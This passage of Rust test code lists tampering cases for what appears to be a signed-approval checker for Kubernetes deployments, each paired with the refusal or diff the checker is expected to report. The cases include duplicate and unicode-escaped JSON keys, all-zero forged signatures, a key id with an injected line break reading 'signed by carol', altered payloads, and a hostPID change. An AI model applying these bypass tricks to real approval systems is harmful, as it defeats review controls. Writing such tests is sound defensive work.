            "a protection in the wrong place of a new object",
            Replay,
            Folder,
            vec![pod("/containers/0/runAsNonRoot", json!(true))],
            In::Diff,
            "+ containers[orders].runAsNonRoot: true",
        ),
        (
            "a field of the object that Kubernetes does not have",
            Deployment,
            Folder,
            vec![object("/policy", json!({"seccomp": "RuntimeDefault"}))],
            In::Diff,
            "+ policy.seccomp: \"RuntimeDefault\"",
        ),
        (
            "a key twice",
            Deployment,
            Folder,
            vec![Edit::Text("\"hostUsers\":false", "\"hostUsers\":false,\"hostUsers\":true")],
            In::Refused,
            "hostUsers",
        ),
        (
            "a key twice, once escaped",
            Deployment,
            Folder,
            vec![Edit::Text("\"hostUsers\":false", "\"hostUsers\":false,\"hostUser\\u0073\":true")],
            In::Refused,
            "hostUsers",
        ),
        (
            "a workload twice",
            Deployment,
            Folder,
            vec![Edit::Request("/workloads/-", Deployment.request(&Deployment.object())["workloads"][0].clone())],
            In::Refused,
            "apps/v1/Deployment/payments/orders",
        ),
        (
            "an order in which other code runs first",
            Deployment,
            Live,
            vec![pod("/containers", {
                let mut containers = super::pod()["containers"].clone();
                containers.as_array_mut().expect("a list").reverse();
                containers
            })],
            In::Diff,
            "containers (order)",
        ),
        (
            "a label that says the Pods are another version",
            Deployment,
            Folder,
            vec![object("/metadata/labels", json!({"app.kubernetes.io/version": "6.6.6"}))],
            In::Diff,
            "\"6.6.6\"  (not bound by the approval)",
        ),
    ]
}

const ZERO: &str = "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA==";

fn add_signature(envelope: &mut Value, keyid: &str) {
    let signatures = envelope["signatures"].as_array_mut().expect("a list");
    signatures.push(json!({"keyid": keyid, "sig": ZERO}));
}

fn envelopes() -> Vec<Row> {
    vec![
        (
            "payload altered under an old signature",
            Deployment,
            Envelope,
            vec![Edit::Payload("INC-7\"", "INC-7 \"")],
            In::Wrong,
            "signature of bob@acme.example does not verify",
        ),
        (
            "lifetime altered under an old signature",
            Deployment,
            Envelope,
            vec![Edit::Payload("\"expiresAt\":\"20", "\"expiresAt\":\"21")],
            In::Wrong,
            "signature of bob@acme.example does not verify",
        ),
        (
            "zero bytes under the key id of the second reviewer",
            Deployment,
            Envelope,
            vec![Edit::Envelope(|envelope| add_signature(envelope, crate::reviews::CAROL))],
            In::Wrong,
            "signature of carol@acme.example does not verify",
        ),
        (
            "signature of an unknown key",
            Deployment,
            Envelope,
            vec![Edit::Envelope(|envelope| add_signature(envelope, &"0".repeat(64)))],
            In::Signatures,
            "unknown key",
        ),
        (
            "key id with a line break",
            Deployment,
            Envelope,
            vec![Edit::Envelope(|envelope| add_signature(envelope, "x\n  signed by carol"))],
            In::Signatures,
            "unknown key",
        ),
        (
            "another reason than the envelope's",
            Deployment,
            Envelope,
            vec![Edit::Request("/reason", json!("INC-8"))],
            In::Wrong,
            "the envelope says reason INC-7, but the request says INC-8",
        ),
        (
            "another requester than the envelope's",
            Deployment,
            Envelope,
            vec![Edit::Request("/requestedBy", json!("dave@acme.example"))],
            In::Wrong,
            "the envelope says that alice@acme.example requested it",
        ),
        (
            "another object than the envelope's",
            Deployment,
            Envelope,
            vec![Edit::Request("/workloads/0/object/spec/template/spec/hostPID", json!(true))],
            In::Refused,
            "spec hash",
        ),
    ]
}
